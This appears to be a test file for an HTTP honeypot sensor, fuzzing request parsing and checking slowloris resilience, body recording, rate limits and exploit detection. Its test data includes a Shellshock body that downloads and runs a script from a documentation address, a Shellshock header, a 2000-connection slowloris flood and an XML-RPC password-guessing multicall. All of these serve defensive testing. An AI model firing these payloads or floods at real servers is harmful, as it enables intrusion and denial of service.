// Bad input against the HTTP sensor: random request heads around Node's header-size limit, random
// bytes, and a slowloris crowd (thousands of connections trickling headers) that must stay bounded.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { connect, type Socket } from 'node:net';
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import pino from 'pino';
import { fetchSchema, httpService, quarantineSchema } from '../../../src/config/schema.js';
import type { ApiaryEvent } from '../../../src/events/catalogue.js';
import { compileAuthPolicy } from '../../../src/sensors/runtime/auth-policy.js';
import { createCapture } from '../../../src/sensors/runtime/capture.js';
import { openHoneytokenRegistry } from '../../../src/sensors/runtime/honeytokens.js';
import { ConnectionGate } from '../../../src/sensors/runtime/listener.js';
import { startHttpSensor } from '../../../src/sensors/http/sensor.js';
import { startApiaryProcess, tempDir } from '../../helpers/apiary-process.js';
import { runTool } from '../../helpers/net-tools.js';

const MAX_HEAD = 8192;

/** Sends BYTES on a fresh connection (from address FROM) and resolves with what came back before the server closed (or 2 s). */
function exchange(port: number, bytes: Buffer, from?: string): Promise<string> {
  return new Promise((resolve) => {
    const s = connect({ port, host: '127.0.0.1', ...(from ? { localAddress: from } : {}) });
    let got = '';
    const done = (): void => {
      clearTimeout(t);
      s.destroy();
      resolve(got);
    };
    const t = setTimeout(done, 2000);
    s.on('data', (d) => {
      got += d.toString('latin1');
      if (/\r\n\r\n/.test(got) && /Content-Length: (\d+)/.test(got)) {
        const len = Number(/Content-Length: (\d+)/.exec(got)![1]);
        if (got.length - got.indexOf('\r\n\r\n') - 4 >= len) done();
      }
    });
    s.on('error', done);
    s.on('close', done);
    s.end(bytes);
  });
}

async function inProcessSensor(overrides: Record<string, unknown> = {}, tls?: { key: string; cert: string }) {
  const events: ApiaryEvent[] = [];
  const sink = { write: (e: ApiaryEvent) => void events.push(e), flush: async () => {} };
  const dir = tempDir();
  const cfg = httpService.parse({ listen: ['127.0.0.1:0'], max_header_bytes: MAX_HEAD, headers_timeout_s: 2, ...overrides });
  const services = await startHttpSensor(cfg, {
    sensor: 't',
    sink,
    gate: new ConnectionGate(10_000, 10_000, () => {}),
    log: pino({ level: 'silent' }),
    policy: compileAuthPolicy([]),
    capture: createCapture(dir, fetchSchema.parse({}), quarantineSchema.parse({})),
    honeytokens: openHoneytokenRegistry(dir),
    ...(tls ? { tls } : {}),
  });
  return { events, services, port: services[0]!.bound[0]!.port, close: () => Promise.all(services.map((s) => s.close())) };
}

test('request heads around the header limit: small ones are served, oversized ones get Apache\'s 400, nothing else', async () => {
  const sensor = await inProcessSensor();
  try {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.stringMatching(/^[A-Za-z][A-Za-z0-9-]{0,30}$/), fc.integer({ min: 0, max: 3000 })), { maxLength: 8 }),
        fc.constantFrom('/', '/wp-login.php', '/x'),
        async (headers, path) => {
          const lines = headers.map(([k, n], i) => `X-${k}-${i}: ${'v'.repeat(n)}\r\n`).join('');
          const head = `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n${lines}\r\n`;
          const reply = await exchange(sensor.port, Buffer.from(head));
          const status = /^HTTP\/1\.1 (\d{3}) /.exec(reply)?.[1];
          assert.ok(status, `a status line for a ${head.length}-byte head: ${JSON.stringify(reply.slice(0, 80))}`);
          assert.match(reply, /\r\nServer: Apache\/2\.4\.62 \(Debian\)\r\n/);
          if (head.length < MAX_HEAD - 512) assert.ok(status === '200' || status === '404', `${head.length} bytes -> ${status}`);
          if (head.length > MAX_HEAD + 512) {
            assert.equal(status, '400', `${head.length} bytes -> ${status}`);
            assert.match(reply, /<h1>Bad Request<\/h1>/);
          }
        },
      ),
      { numRuns: 60 },
    );
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ minLength: 1, maxLength: 2000 }), async (bytes) => {
        const reply = await exchange(sensor.port, Buffer.from(bytes));
        assert.ok(reply === '' || /^HTTP\/1\.1 \d{3} /.test(reply), JSON.stringify(reply.slice(0, 60)));
      }),
      { numRuns: 60 },
    );
    const ok = await exchange(sensor.port, Buffer.from('GET / HTTP/1.0\r\n\r\n'));
    assert.match(ok, /^HTTP\/1\.1 200 OK/, 'still serving after the fuzzing');
    assert.ok(sensor.events.some((e) => e.type === 'protocol.malformed'), 'parse errors are recorded');
  } finally {
    await sensor.close();
  }
});

function rssKb(pid: number): number {
  return Number(/VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))![1]);
}

test('slowloris: 2000 connections trickling headers stay bounded in memory and curl is still served', async () => {
  const CONNECTIONS = 2000;
  const apiary = await startApiaryProcess({
    sensor: 'http-slowloris',
    limits: { per_source_connections: 3000, global_connections: 4000 },
    services: { http: { listen: ['127.0.0.1:0'], headers_timeout_s: 4, request_timeout_s: 8 } },
  });
  const sockets: Socket[] = [];
  let trickle: NodeJS.Timeout | undefined;
  try {
    const port = apiary.ports.http!;
    const pid = apiary.proc.pid!;
    const before = rssKb(pid);
    for (let i = 0; i < CONNECTIONS; i++) {
      const s = connect(port, '127.0.0.1');
      s.on('error', () => {});
      s.on('end', () => s.destroy());
      s.resume();
      s.write(`GET /?${i} HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n`);
      sockets.push(s);
      if (i % 200 === 199) await new Promise((r) => setTimeout(r, 20));
    }
    let rounds = 0;
    trickle = setInterval(() => {
      rounds++;
      for (const s of sockets) if (!s.destroyed) s.write(`X-a${rounds}: ${rounds}\r\n`);
    }, 500);
    await new Promise((r) => setTimeout(r, 1500));
    const during = rssKb(pid);
    const served = await runTool('curl', ['-sS', '-o', '/dev/null', '-w', '%{http_code} %{time_total}', '--max-time', '5', `http://127.0.0.1:${port}/`]);
    assert.match(served.stdout, /^200 /, `curl served during the attack: ${served.stdout} ${served.stderr}`);
    // After headers_timeout the sensor answers 408 and closes every trickling connection.
    await new Promise((r) => setTimeout(r, 5000));
    const open = sockets.filter((s) => !s.destroyed).length;
    assert.ok(open < CONNECTIONS / 10, `trickling connections closed by the header timeout (${open} still open)`);
    const growthMb = (during - before) / 1024;
    assert.ok(growthMb < 200, `memory growth ${growthMb.toFixed(1)} MB for ${CONNECTIONS} connections`);
    console.log(`slowloris: ${CONNECTIONS} connections, RSS ${(before / 1024).toFixed(1)} -> ${(during / 1024).toFixed(1)} MB, curl ${served.stdout}`);
  } finally {
    if (trickle) clearInterval(trickle);
    for (const s of sockets) s.destroy();
    await apiary.stop();
  }
});

test('a chunked body of one-byte chunks: its first MAX_RECORDED_BODY_BYTES recorded, its size and hash over all of it', { timeout: 60_000 }, async () => {
  const { MAX_RECORDED_BODY_BYTES } = await import('../../../src/sensors/http/sensor.js');
  const { createHash } = await import('node:crypto');
  const sensor = await inProcessSensor();
  try {
    const body = Buffer.from(Array.from({ length: 200_000 }, (_, i) => String.fromCharCode(97 + (i % 26))).join(''));
    const chunked = Buffer.concat([...body].map((b) => Buffer.from(`1\r\n${String.fromCharCode(b)}\r\n`)).concat([Buffer.from('0\r\n\r\n')]));
    const reply = await exchange(sensor.port, Buffer.concat([Buffer.from('POST /upload HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n'), chunked]));
    assert.match(reply, /^HTTP\/1\.1 /);
    const req = sensor.events.find((e) => e.type === 'http.request');
    const p = req?.payload as { body?: string; body_size?: number; body_sha256?: string };
    assert.equal(p.body, body.subarray(0, MAX_RECORDED_BODY_BYTES).toString('latin1'));
    assert.equal(p.body_size, body.length);
    assert.equal(p.body_sha256, createHash('sha256').update(body).digest('hex'));
  } finally {
    await sensor.close();
  }
});

/** Two requests on one keep-alive connection, PAUSE_MS apart; resolves with both replies' status lines. */
function twoRequests(port: number, pauseMs: number): Promise<string[]> {
  return new Promise((resolve) => {
    const s = connect(port, '127.0.0.1');
    let got = '';
    const statuses = (): string[] => got.match(/^HTTP\/1\.1 \d{3}/gm) ?? [];
    const done = (): void => {
      clearTimeout(t);
      s.destroy();
      resolve(statuses());
    };
    const t = setTimeout(done, 3000);
    s.on('data', (d) => {
      got += d.toString('latin1');
      if (statuses().length >= 2) done();
    });
    s.on('error', done);
    s.on('close', done);
    s.write('GET / HTTP/1.1\r\nHost: x\r\n\r\n');
    setTimeout(() => s.write('GET /again HTTP/1.1\r\nHost: x\r\n\r\n'), pauseMs);
  });
}

test('a long idle_timeout_s does not overflow the connection timers (idle x 100 requests past 2^31-1 ms fired after 1 ms)', async () => {
  const sensor = await inProcessSensor({ idle_timeout_s: 30_000 });
  try {
    assert.deepEqual(await twoRequests(sensor.port, 100), ['HTTP/1.1 200', 'HTTP/1.1 404']);
    assert.ok(!sensor.events.some((e) => e.type === 'connection.close' && (e.payload as { reason: string }).reason === 'session_timeout'));
    // The operator's setLimits goes through the same clamp.
    sensor.services[0]!.setLimits!({ idle_timeout_s: 3_000_000, session_timeout_s: 3_000_000 });
    assert.deepEqual(await twoRequests(sensor.port, 100), ['HTTP/1.1 200', 'HTTP/1.1 404']);
    assert.ok(!sensor.events.some((e) => e.type === 'connection.close' && /timeout/.test((e.payload as { reason: string }).reason)));
  } finally {
    await sensor.close();
  }
});

const post = (path: string, body: string, type: string): Buffer =>
  Buffer.from(`POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body)}\r\nConnection: close\r\n\r\n${body}`);

test('bodies longer than the recorded 8 KB are parsed whole: a 60-call XML-RPC multicall and a padded login form', async () => {
  const { MAX_RECORDED_BODY_BYTES } = await import('../../../src/sensors/http/sensor.js');
  const sensor = await inProcessSensor({ site: 'wordpress' });
  try {
    const call = (i: number): string => `<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name><value><array><data><value><string>admin</string></value><value><string>pass${i}</string></value></data></array></value></member></struct></value>`;
    const multicall = `<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>${Array.from({ length: 60 }, (_, i) => call(i)).join('')}</data></array></value></param></params></methodCall>`;
    assert.ok(multicall.length > 2 * MAX_RECORDED_BODY_BYTES);
    const reply = await exchange(sensor.port, post('/xmlrpc.php', multicall, 'text/xml'));
    assert.match(reply, /^HTTP\/1\.1 200 /);
    assert.doesNotMatch(reply, /parse error/);
    const xmlLogins = sensor.events.filter((e) => e.type === 'auth.attempt').map((e) => (e.payload as { password: string }).password);
    assert.deepEqual(xmlLogins, Array.from({ length: 60 }, (_, i) => `pass${i}`));

    const form = `filler=${'x'.repeat(9000)}&log=admin&pwd=letmein&wp-submit=Log+In`;
    await exchange(sensor.port, post('/wp-login.php', form, 'application/x-www-form-urlencoded'));
    const formLogin = sensor.events.filter((e) => e.type === 'auth.attempt').slice(60).map((e) => e.payload);
    assert.deepEqual(formLogin, [{ method: 'form', username: 'admin', password: 'letmein', success: false }]);
    // What is recorded is still the first MAX_RECORDED_BODY_BYTES.
    const recorded = sensor.events.filter((e) => e.type === 'http.request').map((e) => e.payload as { body?: string; body_size: number });
    assert.deepEqual(recorded.map((r) => [r.body?.length, r.body_size]), [[MAX_RECORDED_BODY_BYTES, Buffer.byteLength(multicall)], [MAX_RECORDED_BODY_BYTES, form.length]]);
  } finally {
    await sensor.close();
  }
});

test('one source holding the upload memory does not cost another source its request body: recorded and inspected whole', { timeout: 30_000 }, async () => {
  const { MAX_UPLOAD_MEMORY_BYTES, UploadBuffer } = await import('../../../src/sensors/runtime/capture.js');
  const sensor = await inProcessSensor();
  // Eight uploads of 16 MiB held open from 127.0.0.1 (as FTP STORs would be): the whole budget, were it not shared out.
  const mib = Buffer.alloc(1024 * 1024, 0x5a);
  const held = Array.from({ length: 8 }, () => new UploadBuffer(MAX_UPLOAD_MEMORY_BYTES / 8, '127.0.0.1'));
  try {
    for (const u of held) for (let i = 0; i < MAX_UPLOAD_MEMORY_BYTES / 8 / mib.length; i++) u.write(mib);
    const body = 'x=() { :; }; /bin/sh -c "cd /tmp; wget -q http://192.0.2.1/a; sh a"';
    for (const from of ['127.0.0.2', '127.0.0.1']) await exchange(sensor.port, post('/cgi-bin/test.cgi', body, 'application/x-www-form-urlencoded'), from);
    const reqs = sensor.events.filter((e) => e.type === 'http.request').map((e) => { const p = e.payload as { body?: string; body_size: number; body_dropped?: boolean }; return [e.src_ip, p.body, p.body_size, p.body_dropped]; });
    assert.deepEqual(reqs, [
      ['127.0.0.2', body, body.length, undefined],
      // The source that holds its share: the body is recorded as dropped, not as an empty one.
      ['127.0.0.1', undefined, body.length, true],
    ]);
    const exploits = sensor.events.filter((e) => e.type === 'exploit.attempt').map((e) => [e.src_ip, (e.payload as { name: string }).name]);
    assert.deepEqual(exploits, [['127.0.0.2', 'shellshock'], ['127.0.0.2', 'command-injection']]);
  } finally {
    for (const u of held) u.release();
    await sensor.close();
  }
});

/** Sends a request head promising 1000 body bytes and 100 of them, then HOW: half-close, reset, or wait. */
async function unfinishedBody(port: number, how: 'end' | 'reset' | 'wait'): Promise<void> {
  const s = connect(port, '127.0.0.1');
  s.on('error', () => {});
  s.resume();
  await new Promise<void>((r) => s.once('connect', () => r()));
  s.write(`POST /cgi-bin/status HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :; }; /bin/sh -c id\r\nContent-Length: 1000\r\n\r\n${'b'.repeat(100)}`);
  await new Promise((r) => setTimeout(r, 100));
  if (how === 'end') s.end();
  else if (how === 'reset') s.resetAndDestroy();
  await new Promise<void>((r) => (s.closed ? r() : s.once('close', () => r())));
}

test('a request whose body never finishes is recorded with what arrived, flagged incomplete; a client that goes is not malformed', { timeout: 20_000 }, async () => {
  const sensor = await inProcessSensor({ request_timeout_s: 1 });
  try {
    const byHow: [string, 'end' | 'reset' | 'wait', string, string][] = [
      ['half-close', 'end', 'client', 'client'],
      ['reset', 'reset', 'client', 'client'],
      ['request timeout', 'wait', 'timeout', 'idle_timeout'],
    ];
    for (const [what, how, incomplete, closeReason] of byHow) {
      const from = sensor.events.length;
      await unfinishedBody(sensor.port, how);
      const waitFor = async (): Promise<ApiaryEvent[]> => {
        for (let i = 0; i < 100; i++) {
          const got = sensor.events.slice(from);
          if (got.some((e) => e.type === 'connection.close')) return got;
          await new Promise((r) => setTimeout(r, 50));
        }
        return sensor.events.slice(from);
      };
      const got = await waitFor();
      const reqs = got.filter((e) => e.type === 'http.request').map((e) => e.payload as { path: string; body_size: number; body?: string; incomplete?: string });
      assert.deepEqual(reqs.map((r) => [r.path, r.body_size, r.body, r.incomplete]), [['/cgi-bin/status', 100, 'b'.repeat(100), incomplete]], what);
      assert.ok(got.some((e) => e.type === 'exploit.attempt' && (e.payload as { name: string }).name === 'shellshock'), `${what}: the exploit in the headers is recorded`);
      assert.deepEqual(got.filter((e) => e.type === 'protocol.malformed').map((e) => e.payload), [], `${what}: not malformed`);
      assert.deepEqual(got.filter((e) => e.type === 'connection.close').map((e) => (e.payload as { reason: string }).reason), [closeReason], what);
    }
  } finally {
    await sensor.close();
  }
});

test('Basic credentials that are not UTF-8 are read as Latin-1, byte for byte (were replaced by U+FFFD)', async () => {
  const sensor = await inProcessSensor();
  try {
    const creds = (b: Buffer): Buffer => Buffer.from(`GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Basic ${b.toString('base64')}\r\nConnection: close\r\n\r\n`);
    await exchange(sensor.port, creds(Buffer.from('admin:p\xe4ss\xff', 'latin1')));
    await exchange(sensor.port, creds(Buffer.from('r\u00f6ot:p\u00e4ss', 'utf8')));
    const logins = sensor.events.filter((e) => e.type === 'auth.attempt').map((e) => e.payload as { method: string; username: string; password: string });
    assert.deepEqual(logins.map((l) => [l.method, l.username, l.password]), [['basic', 'admin', 'p\xe4ss\xff'], ['basic', 'r\u00f6ot', 'p\u00e4ss']]);
  } finally {
    await sensor.close();
  }
});

test('a bad TLS handshake is recorded as one protocol.malformed (the TLS socket and the HTTP server each recorded it)', { timeout: 30_000 }, async () => {
  const { loadOrCreateCertificate } = await import('../../../src/sensors/http/tls-cert.js');
  const tls = await loadOrCreateCertificate(`${tempDir()}/tls`, 'localhost');
  const sensor = await inProcessSensor({ listen: [], tls_listen: ['127.0.0.1:0'] }, tls);
  try {
    for (const bytes of ['GET / HTTP/1.1\r\nHost: x\r\n\r\n', '\x16\x03\x01\x00\x05hello']) {
      const from = sensor.events.length;
      await exchange(sensor.port, Buffer.from(bytes, 'latin1'));
      for (let i = 0; i < 40 && !sensor.events.slice(from).some((e) => e.type === 'connection.close'); i++) await new Promise((r) => setTimeout(r, 50));
      const malformed = sensor.events.slice(from).filter((e) => e.type === 'protocol.malformed').map((e) => (e.payload as { reason: string }).reason);
      assert.equal(malformed.length, 1, `${JSON.stringify(bytes)}: ${JSON.stringify(malformed)}`);
      assert.match(malformed[0]!, /^tls: /);
    }
  } finally {
    await sensor.close();
  }
});

test('one source past its request rate is still answered, but its requests are counted in connection.limited, not each recorded', { timeout: 30_000 }, async () => {
  const { REQUEST_BURST_PER_SOURCE } = await import('../../../src/sensors/runtime/request-rate.js');
  const { MAX_REQUESTS_PER_CONNECTION } = await import('../../../src/sensors/http/sensor.js');
  const sensor = await inProcessSensor();
  const connections = Math.ceil((REQUEST_BURST_PER_SOURCE * 2) / MAX_REQUESTS_PER_CONNECTION);
  const sent = connections * MAX_REQUESTS_PER_CONNECTION;
  try {
    // Pipelined keep-alive requests; the sensor ends each connection after MAX_REQUESTS_PER_CONNECTION.
    const pipeline = Buffer.from(`GET /flood HTTP/1.1\r\nHost: x\r\nUser-Agent: flood\r\n\r\n`.repeat(MAX_REQUESTS_PER_CONNECTION));
    const untilClosed = (): Promise<string> =>
      new Promise((resolve) => {
        const s = connect(sensor.port, '127.0.0.1');
        let got = '';
        const t = setTimeout(() => s.destroy(), 10_000);
        s.on('data', (d) => (got += d.toString('latin1')));
        s.on('error', () => {});
        s.on('close', () => {
          clearTimeout(t);
          resolve(got);
        });
        s.write(pipeline);
      });
    const replies = await Promise.all(Array.from({ length: connections }, untilClosed));
    const answered = replies.reduce((n, r) => n + (r.match(/^HTTP\/1\.1 404 /gm)?.length ?? 0), 0);
    assert.equal(answered, sent, 'every request answered');
    await sensor.close();
    const recorded = sensor.events.filter((e) => e.type === 'http.request').length;
    const limited = sensor.events.filter((e) => e.type === 'connection.limited').map((e) => ({ src: e.src_ip, ...(e.payload as { limit: string; refused: number }) }));
    assert.ok(recorded >= REQUEST_BURST_PER_SOURCE && recorded < sent, `${recorded} of ${sent} recorded`);
    assert.deepEqual(limited.map((l) => [l.src, l.limit]), [['127.0.0.1', 'request_rate']]);
    assert.equal(recorded + limited[0]!.refused, sent, 'every request recorded or counted');
  } finally {
    await sensor.close();
  }
});
